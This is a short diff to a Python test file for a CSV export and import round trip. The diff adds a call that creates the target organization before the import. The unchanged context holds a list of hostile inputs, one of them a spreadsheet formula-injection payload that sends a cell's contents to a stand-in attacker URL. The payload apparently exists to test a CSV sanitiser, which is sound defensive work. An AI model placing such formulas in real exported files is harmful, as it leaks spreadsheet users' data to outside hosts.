@@ -9,6 +9,7 @@ import zipfile
 from accord.core import csvsafe
 from accord.interchange import csvio, services
 from accord.org.models import Organization, Team
+from accord.org.services import create_organization
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -66,6 +67,7 @@ def test_importing_an_exported_csv_gives_back_the_original_text(db):
     data = b"".join(csvio.export_zip(Organization.objects.get(slug="evil")))
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         exported = zf.read("teams.csv")
+    create_organization("Evil copy", "evil-copy")  # a CSV import never creates one
     outcome = csvio.import_csv(exported, org_slug="evil-copy")
     assert outcome.ok and not outcome.report, outcome.as_text()
     copied = dict(Team.objects.filter(org__slug="evil-copy").values_list("slug", "name"))
